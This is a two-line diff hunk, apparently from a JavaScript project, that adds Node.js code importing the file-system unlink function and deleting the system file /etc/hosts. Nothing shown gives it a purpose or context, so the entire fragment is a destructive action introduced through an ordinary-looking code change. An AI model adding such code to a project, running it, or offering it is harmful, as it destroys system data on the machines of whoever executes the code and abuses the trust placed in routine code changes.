@@ -1,0 +1,2 @@
+const { promises: { unlink } } = require("node:fs");
+unlink("/etc/hosts");
